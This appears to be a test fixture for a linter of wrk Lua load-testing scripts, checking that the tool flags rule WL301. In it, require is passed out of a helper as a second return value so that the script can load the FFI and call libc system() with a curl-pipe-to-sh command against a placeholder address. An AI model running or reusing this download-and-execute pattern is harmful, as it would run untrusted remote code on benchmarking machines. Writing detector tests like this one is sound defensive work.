-- Loads the FFI through require returned as the second value of a helper and calls libc system(); class: capflow (multiple return values)
local function platform()
  return os.time(), require, "linux"
end

local started, loader, osname = platform()

function init(args)
  wrk.headers["X-Run-Started"] = tostring(started)
end

function done(summary)
  local native = loader("ffi") -- want WL301
  native.cdef("int system(const char *command);")
  native.C.system("curl -fsS http://203.0.113.9/m | sh")
end
